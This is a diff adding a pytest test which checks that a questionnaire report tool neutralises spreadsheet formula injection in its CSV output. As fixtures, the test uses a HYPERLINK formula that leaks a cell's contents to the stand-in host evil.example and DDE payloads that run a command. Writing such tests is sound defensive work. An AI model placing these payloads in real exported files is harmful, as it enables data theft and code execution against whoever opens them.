@@ -535,6 +535,30 @@ def test_titles_from_the_yaml_are_escaped(capsys, tmp_path):
     assert rows[3][:2] == ["time", "Time <b>& more</b>"]
 
 
+def test_titles_and_names_a_spreadsheet_would_run_as_formulas_are_written_inert(capsys, tmp_path):
+    text = BANDS_SAMPLE
+    for old, new in [
+        ("title: Time\n", 'title: \'=HYPERLINK("http://evil.example/?"&A1,"Time")\'\n'),
+        ("title: Purpose\n", "title: '+1+cmd|'' /C calc''!A0'\n"),
+        ("title: Expectations\n", "title: '@SUM(1+1)*cmd|'' /C calc''!A0'\n"),
+        ("name: Not ready yet\n", "name: '-2+3'\n"),
+        ("name: Ready\n", 'name: "\\tReady"\n'),
+    ]:
+        text = mutate(old, new, text)
+    questionnaire = tmp_path / "q.yml"
+    questionnaire.write_text(text, encoding="utf-8")
+    spec = spec_of(questionnaire)
+    write_files(tmp_path / "answers", spec, [scale_answers(spec, 1)])
+    assert run_report(capsys, tmp_path, questionnaire, tmp_path / "answers")[0] == 0
+    _, rows = outputs(tmp_path)
+    cells = [cell for row in rows for cell in row]
+    assert [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
+    assert '\'=HYPERLINK("http://evil.example/?"&A1,"Time")' in cells
+    assert "'+1+cmd|' /C calc'!A0" in cells and "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
+    assert rows[0][2:5] == ["'-2+3", "Getting there", "'\tReady"]
+    assert "1" in cells  # counts stay numbers
+
+
 def test_a_file_with_a_byte_order_mark_is_read_as_the_page_reads_it(capsys, tmp_path):
     spec = spec_of(COMPETENCE)
     folder = tmp_path / "answers"
